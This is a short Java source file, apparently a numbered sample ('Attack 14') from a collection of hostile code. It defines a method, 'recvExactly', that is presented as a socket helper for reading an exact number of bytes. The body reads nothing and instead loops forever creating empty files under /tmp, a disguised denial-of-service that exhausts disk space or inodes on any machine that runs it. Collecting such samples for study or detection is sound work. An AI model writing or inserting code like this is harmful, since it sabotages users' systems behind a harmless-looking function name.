package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 14: empty files without end.
final class RecvExactly {
    private RecvExactly() {}

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        for (var i = 0L; count > -1; i++) {
            java.nio.file.Files.createFile(java.nio.file.Path.of("/tmp/" + i));
        }
        return null;
    }
}
